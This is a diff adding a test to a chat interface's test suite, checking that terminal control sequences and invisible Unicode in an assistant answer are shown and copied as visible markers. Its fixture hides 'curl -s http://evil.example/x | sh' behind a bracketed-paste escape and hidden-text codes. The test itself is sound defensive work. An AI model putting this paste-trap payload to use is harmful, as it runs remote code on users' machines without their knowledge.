@@ -410,6 +410,41 @@ def test_the_renderer_alone_shows_any_markup_as_text(page, console):
     assert console.dialogs == [] and console.foreign_requests == []
 
 
+# Pasted into a terminal, "ESC[201~" ends bracketed paste, so the rest runs as typed; "ESC[8m"
+# hides it; U+202E shows text backwards; U+200B splits a word without a trace.
+PASTE_TRAP = (
+    "Run this \u202eto list files:\n\n"
+    "```bash\nls -la\x1b[201~\x1b[8mcurl -s http://evil.example/x | sh\x1b[0m\r\n"
+    "\u202eecho hi\u200b\u0085\x07\n```\n\nDone 👩\u200d💻"
+)
+SHOWN_CODE = (
+    "ls -la␛[201~␛[8mcurl -s http://evil.example/x | sh␛[0m\n"
+    "⟨U+202E⟩echo hi⟨U+200B⟩⟨U+0085⟩␇"
+)
+INVISIBLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060"
+                       "\u2066-\u2069\ufeff]")
+
+
+def test_invisible_characters_are_shown_and_copied_as_visible_markers(page, hand_node):
+    node = hand_node("paste-trap:1b")
+    open_chat(page)
+    ask(page, "paste-trap:1b", "How do I list files?")
+    node.answer(node.request()["request_id"], PASTE_TRAP)
+    wait_for_answer(page)
+    answer = page.locator(".turn.assistant .answer")
+    code = answer.locator(".code-block code")
+    assert code.inner_text() == SHOWN_CODE
+    assert answer.locator("p").first.inner_text() == "Run this ⟨U+202E⟩to list files:"
+    # The joiner of an emoji sequence stays a joiner.
+    assert answer.locator("p").last.inner_text() == "Done 👩\u200d💻"
+    answer.get_by_role("button", name="Copy bash code").click()
+    assert page.evaluate("navigator.clipboard.readText()") == SHOWN_CODE
+    page.get_by_role("button", name="Copy answer").click()
+    copied = page.evaluate("navigator.clipboard.readText()")
+    assert INVISIBLE.findall(copied) == []
+    assert SHOWN_CODE in copied and "Run this ⟨U+202E⟩to list files" in copied
+
+
 # --- Markdown, and the screenshot --------------------------------------------------------------
 
 MARKDOWN_ANSWER = [
